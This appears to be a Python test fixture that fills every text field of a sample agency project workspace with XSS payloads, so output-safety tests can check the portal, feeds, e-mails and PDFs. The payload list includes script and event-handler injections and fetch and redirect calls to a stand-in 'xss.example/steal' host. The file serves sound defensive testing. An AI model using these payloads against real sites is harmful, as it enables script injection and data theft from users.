"""A workspace whose every text field carries an XSS payload, for the output-safety tests.

Payloads come from the OWASP XSS filter evasion cheat sheet and PayloadsAllTheThings: script
tags, event handlers, `javascript:` and `data:` URLs, SVG with script, CSS expressions,
broken markup, Markdown links to script URLs and chat mentions. Several payloads set the
global `window.__xss` or fetch `XSS_URL`: a browser that ran one leaves a trace the tests read.

The project is closed, shares its retrospective and survey comments and marks every record
client-visible, so each field reaches the client outputs (portal, feed, status.json, charts,
e-mails, PDFs, chat cards).
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

from tests.corpus_cases import BASE

XSS_URL = "https://xss.example/steal"

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<svg><script xlink:href="data:text/javascript,alert(1)"/></svg>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<iframe src=javascript:alert(1)>",
    '<div style="width: expression(alert(1));">',
    "<BODY ONLOAD=alert('XSS')>",
    "'\"><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<details open ontoggle=alert(1)>",
    "javascript:alert(1)",
    "[click](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    # Leave a trace when run: a global flag, a request to XSS_URL.
    "<script>window.__xss=1</script>",
    f"<img src=x onerror=\"window.__xss=1;fetch('{XSS_URL}')\">",
    f'<svg onload="window.__xss=1"><image href="{XSS_URL}.png"/></svg>',
    f'<link rel=stylesheet href="{XSS_URL}.css"><style>@import "{XSS_URL}.css";</style>',
    f'<meta http-equiv="refresh" content="0;url={XSS_URL}">',
    f'<form action="{XSS_URL}"><button formaction="javascript:window.__xss=1">go</button></form>',
    f"[steal]({XSS_URL}) <{XSS_URL}> <@all> <at id=all></at> <!channel>",
    '"onmouseover="window.__xss=1" x="',
]

# A payload that shows as text in every output: the tests look for it there.
MARKER = "<script>alert(1)</script>"


def q(text: str) -> str:
    """A YAML double-quoted scalar."""
    return json.dumps(text)


def pick(i: int) -> str:
    return PAYLOADS[i % len(PAYLOADS)]


def _items(indent: str, start: int, count: int) -> str:
    return "".join(f"{indent}- {q(pick(start + k))}\n" for k in range(count))


def write_workspace(root: Path) -> Path:
    """Copy the corpus base to `root` and put a payload into every text field; return root."""
    shutil.copytree(BASE, root)
    c = root / "content"
    proj = c / "projects/relaunch"
    (c / "site.yaml").write_text(
        f"name: {q('Agency ' + pick(23))}\ntimezone: Europe/Berlin\ncurrency: EUR\n"
    )
    (c / "people.yaml").write_text(
        "people:\n"
        f"  - id: lena\n    name: {q('Lena ' + pick(4))}\n    role: {q(pick(10))}\n"
        "    email: lena@agency.example\n    cost_rate: 95\n"
        f"  - id: tom\n    name: {q('Tom ' + pick(21))}\n    role: {q(pick(16))}\n"
    )
    (c / "clients/acme.yaml").write_text(
        f"name: {q('Acme ' + MARKER)}\nshort_name: {q('Acme' + pick(3))}\n"
        f"portal_title: {q(pick(12))}\n"
        "contacts:\n"
        f"  - name: {q('Jana ' + pick(26))}\n    email: jana.roth@acme.example\n"
        f"    role: {q(pick(27))}\n    reports: [weekly, monthly, closing]\n"
    )
    (proj / "project.yaml").write_text(
        f"title: {q('Relaunch ' + pick(1))}\n"
        "client: acme\nmanager: lena\nstatus: closed\n"
        "start: 2026-06-01\nplanned_end: 2026-11-06\nactual_end: 2026-11-13\n"
        f"summary: {q(pick(9) + pick(10) + ' ' + pick(18))}\n"
        "budget: {bac: 80000}\n"
        "goals:\n"
        f"  - id: conv\n    title: {q(pick(2))}\n    metric: {q(pick(19))}\n"
        f"    unit: {q(pick(5))}\n    baseline: 1.8\n    target: 2.6\n"
        "    deadline: 2026-11-13\n    owner: lena\n"
        f"    measurements:\n      - {{date: 2026-09-01, value: 2.1, note: {q(pick(24))}}}\n"
        "      - {date: 2026-11-10, value: 2.5}\n"
        "milestones:\n"
        f"  - id: design\n    title: {q(pick(6))}\n    planned: 2026-07-15\n"
        "    forecasts:\n"
        f"      - {{date: 2026-07-01, forecast: 2026-07-20, reason: {q(pick(25))}}}\n"
        "    actual: 2026-07-20\n    acceptance: accepted\n    accepted_on: 2026-07-21\n"
        f"    accepted_by: {q(pick(11))}\n"
        f"  - id: launch\n    title: {q(pick(22))}\n    planned: 2026-11-06\n"
        "    actual: 2026-11-13\n"
        "deliverables:\n"
        f"  - id: site\n    title: {q(pick(7))}\n    milestone: launch\n    due: 2026-11-06\n"
        "    status: accepted\n    delivered_on: 2026-11-12\n    accepted_on: 2026-11-13\n"
        f"    accepted_by: {q(pick(8))}\n"
        "team:\n"
        f"  - person: lena\n    role: {q(pick(13))}\n"
        f"  - person: tom\n    role: {q(pick(14))}\n"
        "communication:\n"
        f"  channels:\n    - {{name: {q(pick(15))}, purpose: {q(pick(17))}}}\n"
        f"  meetings:\n    - title: {q(pick(20))}\n      cadence: weekly\n      weekday: Mon\n"
        f"      attendees: [{q(pick(0))}]\n      channel: {q(pick(19))}\n"
        "  contacts: [jana.roth@acme.example]\n"
        f"handover:\n  - {{item: {q(pick(3))}, owner: {q(pick(4))}, due: 2026-11-20}}\n"
        "sharing:\n  retrospective: true\n  survey_comments: true\n"
    )
    (proj / "updates/2026-06-12.md").unlink()
    for day, first in (("2026-10-30", 0), ("2026-11-12", 14)):
        (proj / f"updates/{day}.md").write_text(
            f"---\ndate: {day}\nauthor: lena\nhealth: amber\n"
            f"health_reason: {q(pick(first + 13))}\nvisibility: client\n"
            f"highlights:\n{_items('  ', first, 8)}"
            f"next_steps:\n{_items('  ', first + 8, 2)}"
            f"blockers:\n{_items('  ', first + 10, 2)}"
            f"decisions_needed:\n  - what: {q(pick(first + 12))}\n"
            f"    owner: {q(pick(first + 3))}\n    by: 2026-11-20\n"
            "metrics: {conv: 2.4}\n---\n" + "\n\n".join(PAYLOADS) + "\n"
        )
    (proj / "risks.yaml").write_text(
        "risks:\n"
        f"  - id: R1\n    title: {q(pick(7))}\n    description: {q(pick(8))}\n"
        f"    category: {q(pick(9))}\n    owner: {q(pick(10))}\n    raised: 2026-06-05\n"
        f"    probability: 4\n    impact: 4\n    plan: {q(pick(11))}\n"
        f"    history:\n      - {{date: 2026-08-01, impact: 5, note: {q(pick(12))}}}\n"
        "    visibility: client\n"
    )
    (proj / "changes.yaml").write_text(
        "changes:\n"
        f"  - id: CR1\n    title: {q(pick(20))}\n    description: {q(pick(21))}\n"
        f"    requested_by: {q(pick(22))}\n    requested: 2026-06-20\n"
        f"    impact: {{scope: {q(pick(23))}, schedule_days: 5, cost: 4000}}\n"
        "    status: approved\n    decided: 2026-06-25\n"
        f"    decided_by: {q(pick(24))}\n    decision_note: {q(pick(25))}\n"
        "    visibility: client\n"
    )
    (proj / "meetings/2026-06-10-kickoff.md").write_text(
        f"---\ndate: 2026-06-10\ntitle: {q(pick(26))}\nkind: kickoff\n"
        f"attendees: [{q(pick(27))}, Jana Roth]\n"
        f"decisions:\n{_items('  ', 0, 3)}"
        f"actions:\n  - {{action: {q(pick(3))}, owner: {q(pick(4))}, due: 2026-06-20}}\n"
        "visibility: client\n---\n" + "\n\n".join(PAYLOADS) + "\n"
    )
    (proj / "notes/2026-06-11-budget.md").write_text(
        f"---\ndate: 2026-06-11\ntitle: {q(pick(5))}\nvisibility: client\n---\n"
        + "\n\n".join(PAYLOADS)
        + "\n"
    )
    (proj / "retrospective.md").write_text(
        "---\ndate: 2026-11-18\n"
        f"went_well:\n{_items('  ', 0, 4)}to_improve:\n{_items('  ', 4, 4)}"
        f"lessons:\n{_items('  ', 8, 4)}"
        f"problems:\n  - {{problem: {q(pick(12))}, solution: {q(pick(13))}}}\n"
        f"team_performance: {q(pick(14))}\n"
        f"actions:\n  - {{id: A1, action: {q(pick(15))}, owner: {q(pick(16))}, due: 2026-12-01}}\n"
        "---\n" + "\n\n".join(PAYLOADS) + "\n"
    )
    surveys = proj / "surveys"
    surveys.mkdir()
    responses = "".join(
        f"  - {{nps: {9 - k % 4}, csat: {5 - k % 2}, comment: {q(pick(k))}}}\n" for k in range(12)
    )
    (surveys / "closing.yaml").write_text(
        f"wave: {q('Closing ' + pick(17))}\ndate: 2026-11-16\ninvited: 14\n"
        "questions:\n"
        f"  - {{id: nps, text: {q(pick(18))}, kind: nps}}\n"
        f"  - {{id: csat, text: {q(pick(19))}, kind: csat}}\n"
        f"  - {{id: comment, text: {q(pick(20))}, kind: text}}\n"
        f"responses:\n{responses}"
    )
    return root
